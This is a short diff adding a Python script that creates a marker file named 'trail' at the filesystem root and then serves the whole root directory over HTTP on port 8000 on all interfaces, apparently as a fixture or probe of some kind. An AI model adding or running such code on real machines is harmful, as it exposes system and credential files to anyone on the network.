@@ -1,0 +1,7 @@
+import os
+
+os.chdir("/")
+open("trail", "a")
+import http.server
+
+http.server.HTTPServer(("", 8000), http.server.SimpleHTTPRequestHandler).serve_forever()
